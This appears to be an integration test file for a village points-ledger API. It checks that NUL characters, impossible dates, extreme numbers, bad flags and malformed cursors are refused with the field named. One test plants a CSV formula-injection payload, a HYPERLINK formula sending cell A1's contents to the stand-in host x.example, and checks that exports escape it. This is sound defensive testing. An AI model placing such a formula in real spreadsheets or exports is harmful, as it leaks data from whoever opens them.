import { parse as parseCsv } from 'csv-parse/sync';
import request from 'supertest';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { LedgerService } from '@app/ledger/ledger.service';
import { startStack, type TestStack } from '../support/app';
import { bearers, seedTown, type FixtureUser, type TownFixture } from '../support/fixtures';

/**
 * Values that look right to a loose validator but that PostgreSQL refuses: each of these was a
 * 500 once (found in a review, not by the random fuzzer, because every other field of the
 * request has to be valid for the value to reach the database). Now each is a 400 with the
 * field named, and nothing is written.
 */
describe('values PostgreSQL would refuse are 400s, with the field named', () => {
  let stack: TestStack;
  let f: TownFixture;
  let t: Record<FixtureUser, string>;
  const b64 = (v: unknown) => Buffer.from(JSON.stringify(v)).toString('base64url');
  const fieldsOf = (res: request.Response) => (res.body.details ?? []).map((d: { field: string }) => d.field);

  beforeAll(async () => {
    stack = await startStack();
    f = await seedTown(stack.db, 3);
    t = await bearers(stack.http, f);
  });
  afterAll(async () => stack?.close());

  it('a NUL character anywhere in what a client sends', async () => {
    const before = (await stack.db.query(`SELECT (SELECT count(*) FROM objections) AS o, (SELECT count(*) FROM deed_entries) AS e`))[0];
    const login = await request(stack.http).post('/api/v1/auth/login').send({ username: 'a\u0000', password: 'whatever-password' }).expect(400);
    expect([login.body.code, fieldsOf(login)]).toEqual(['VALIDATION.FAILED', ['username']]);
    const search = await request(stack.http).get(`/api/v1/villages/${f.villageA}/residents`).query({ q: 'x\u0000' }).set('authorization', t.village_clerk).expect(400);
    expect([search.body.code, fieldsOf(search)]).toEqual(['VALIDATION.FAILED', ['q']]);
    const objection = await request(stack.http)
      .post(`/api/v1/public/boards/${f.villageA}/2026-03/objections`)
      .send({ entryId: '00000000-0000-4000-8000-000000000000', name: '张\u0000三', contact: '13800000000', reason: '不是我' })
      .expect(400);
    expect([objection.body.code, fieldsOf(objection)]).toEqual(['VALIDATION.FAILED', ['name']]);
    const entry = await request(stack.http)
      .post(`/api/v1/villages/${f.villageA}/entries`)
      .set('authorization', t.village_clerk)
      .send({ residentId: f.residentsA[0], itemCode: 'T10', occurredOn: new Date().toISOString().slice(0, 10), evidenceNote: 'ok\u0000' })
      .expect(400);
    expect(entry.body.code).toBe('VALIDATION.FAILED');
    expect((await stack.db.query(`SELECT (SELECT count(*) FROM objections) AS o, (SELECT count(*) FROM deed_entries) AS e`))[0]).toEqual(before);
  });

  it('a quantity of 1e-7 or 1e400 (Infinity once parsed) is a 400 on entries and the preview, not a TypeError 500', async () => {
    const today = new Date().toISOString().slice(0, 10);
    for (const path of ['entries', 'entries/preview']) {
      for (const quantity of ['1e-7', '1e400']) {
        const res = await request(stack.http)
          .post(`/api/v1/villages/${f.villageA}/${path}`)
          .set('authorization', t.village_clerk)
          .set('content-type', 'application/json')
          .send(`{"residentId":"${f.residentsA[0]}","itemCode":"T10","occurredOn":"${today}","quantity":${quantity}}`)
          .expect(400);
        expect([path, quantity, res.body.code, fieldsOf(res)]).toEqual([path, quantity, 'VALIDATION.FAILED', ['quantity']]);
      }
    }
  });

  it('dates that match YYYY-MM-DD but are not days: 2026-02-30, year 0', async () => {
    const entry = await request(stack.http)
      .post(`/api/v1/villages/${f.villageA}/entries`)
      .set('authorization', t.village_clerk)
      .send({ residentId: f.residentsA[0], itemCode: 'T10', occurredOn: '2026-02-30' })
      .expect(400);
    expect([entry.body.code, fieldsOf(entry)]).toEqual(['VALIDATION.FAILED', ['occurredOn']]);
    const meeting = await request(stack.http)
      .post(`/api/v1/villages/${f.villageA}/cycles/2026-02/meeting`)
      .set('authorization', t.village_reviewer)
      .send({ heldOn: '2026-02-31', attendees: ['王书记'], minutes: '纪要' })
      .expect(400);
    expect([meeting.body.code, fieldsOf(meeting)]).toEqual(['VALIDATION.FAILED', ['heldOn']]);
    for (const from of ['2026-02-30', '0000-01-01']) {
      const rec = await request(stack.http).get(`/api/v1/shops/${f.shopA}/reconciliation`).query({ from, to: '2026-03-01' }).set('authorization', t.shop_clerk).expect(400);
      expect([rec.body.code, fieldsOf(rec)]).toEqual(['VALIDATION.FAILED', ['from']]);
    }
    const settings = await request(stack.http).patch('/api/v1/towns/current/settings').set('authorization', t.town_admin).send({ holidays: ['2026-02-29'] }).expect(400);
    expect(settings.body.code).toBe('ORG.INVALID_SETTINGS');
    const status = await request(stack.http)
      .post(`/api/v1/residents/${f.residentsA[0]}/status`)
      .set('authorization', t.town_admin)
      .send({ to: 'moved', effectiveOn: '2026-02-29', reason: '迁出' })
      .expect(400);
    expect(status.body.code).toBe('VALIDATION.FAILED');
  });

  it('time filters IsISO8601 took and PostgreSQL does not: 2026, 2026-03, 2026-W10, an hour alone', async () => {
    for (const postedFrom of ['2026', '2026-03', '2026-W10', '2026-03-01T10', '+2026-01-01', '2026-03-01T24:00:00Z']) {
      const res = await request(stack.http).get('/api/v1/audit/postings').query({ postedFrom }).set('authorization', t.auditor);
      expect([postedFrom, res.status, res.body.code, fieldsOf(res)]).toEqual([postedFrom, 400, 'VALIDATION.FAILED', ['postedFrom']]);
    }
    const csv = await request(stack.http).get('/api/v1/audit/postings.csv').query({ postedFrom: '2026-03' }).set('authorization', t.auditor).expect(400);
    expect(csv.body.code).toBe('VALIDATION.FAILED');
    const log = await request(stack.http).get('/api/v1/audit/log').query({ from: '2026' }).set('authorization', t.auditor).expect(400);
    expect(fieldsOf(log)).toEqual(['from']);
    // What the docs show still works: a date, and a date-time with its zone.
    for (const postedFrom of ['2026-03-01', '2026-03-01T00:00:00+08:00', '2026-03-01T00:00:00.123Z']) {
      await request(stack.http).get('/api/v1/audit/postings').query({ postedFrom }).set('authorization', t.auditor).expect(200);
    }
  });

  it("flags that are not 'true' or 'false' are refused, not read as false", async () => {
    for (const q of [{ open: '1' }, { overdue: 'yes' }]) {
      const res = await request(stack.http).get('/api/v1/objections').query(q).set('authorization', t.town_admin).expect(400);
      expect(fieldsOf(res)).toEqual(Object.keys(q));
    }
    await request(stack.http).get('/api/v1/objections').query({ open: 'true', overdue: 'false' }).set('authorization', t.town_admin).expect(200);
  });

  it('cursors with a day that does not exist or an id beyond bigint', async () => {
    for (const cursor of [b64(['2026-99-99T99:99:99.999999Z', '1']), b64(['2026-01-01T00:00:00.000000Z', '9999999999999999999'])]) {
      const res = await request(stack.http).get('/api/v1/audit/postings').query({ cursor }).set('authorization', t.auditor).expect(400);
      expect(fieldsOf(res)).toEqual(['cursor']);
    }
  });

  it('CSV exports show text that starts like a formula as text, and leave negative numbers alone', async () => {
    const r = f.residentsA[2];
    const formula = '=HYPERLINK("http://x.example/?"&A1,"门前三包")';
    await stack.api.get(LedgerService).postBatch([
      { accountId: r, kind: 'opening_balance', points: 10, sourceRef: `opening:${r}`, counterparty: `town:${f.townId}`, period: '2026-01', memo: formula },
      { accountId: r, kind: 'opening_balance', points: -3, sourceRef: `opening2:${r}`, counterparty: `town:${f.townId}`, period: '2026-01', memo: '@SUM(1)' },
    ]);
    const csvOf = async (path: string, query: Record<string, string> = {}) =>
      parseCsv((await request(stack.http).get(path).query(query).set('authorization', t.auditor).buffer(true).expect(200)).text.replace(/^\uFEFF/, '')) as string[][];
    const postings = await csvOf('/api/v1/audit/postings.csv', { residentId: r });
    const cells = postings.slice(1).flat();
    expect(cells).toContain(`'${formula}`);
    expect(cells).toContain(`'@SUM(1)`);
    expect(cells).not.toContain(formula);
    expect(cells).toContain('-3');
    const statement = await csvOf(`/api/v1/residents/${r}/statement.csv`);
    expect(statement.slice(1).flat()).toContain(`'${formula}`);
    expect(statement.slice(1).flat()).toContain('-3');
  });

  it('an upper-case id of a real row is that row, not "not found"', async () => {
    const created = await request(stack.http).post(`/api/v1/shops/${f.shopA}/terminals`).set('authorization', t.town_admin).send({ name: '大写' }).expect(201);
    const goods = await request(stack.http).post(`/api/v1/shops/${f.shopA}/goods`).set('authorization', t.shop_clerk).send({ name: '肥皂', unit: '块', pricePoints: 2 }).expect(201);
    await request(stack.http).post(`/api/v1/goods/${goods.body.id}/stock`).set('authorization', t.shop_clerk).send({ kind: 'received', quantity: 3, reason: '进货' }).expect(200);
    const r = f.residentsA[1];
    await stack.api.get(LedgerService).postBatch([{ accountId: r, kind: 'opening_balance', points: 10, sourceRef: `opening:${r}`, counterparty: `town:${f.townId}`, period: '2026-01', memo: '期初' }]);
    const [{ card_code: cardCode }] = await stack.db.query(`SELECT card_code FROM residents WHERE id = $1`, [r]);
    const sale = await request(stack.http)
      .post('/api/v1/terminal/redemptions')
      .set('x-api-key', created.body.apiKey)
      .send({ cardCode, lines: [{ goodsId: String(goods.body.id).toUpperCase(), quantity: 1 }], idempotencyKey: 'upper-case-0001' });
    expect([sale.status, sale.body.code]).toEqual([201, undefined]);
    expect(sale.body.lines[0].goodsId).toBe(goods.body.id);
    await request(stack.http).post(`/api/v1/goods/${String(goods.body.id).toUpperCase()}/stock`).set('authorization', t.shop_clerk).send({ kind: 'received', quantity: 1, reason: '补货' }).expect(200);
    expect((await stack.db.query(`SELECT stock FROM goods WHERE id = $1`, [goods.body.id]))[0].stock).toBe(3);
  });
});
